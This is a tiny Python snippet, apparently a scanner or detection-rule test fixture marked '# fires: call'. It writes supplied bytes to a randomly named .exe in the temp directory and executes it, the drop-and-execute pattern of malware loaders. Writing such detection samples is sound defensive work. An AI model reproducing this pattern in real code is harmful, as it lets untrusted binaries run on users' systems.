import os, random, subprocess, tempfile

def start(data):
    path = os.path.join(tempfile.gettempdir(), random.choice("abc") + ".exe")
    open(path, "wb").write(data)
    subprocess.run([path])  # fires: call
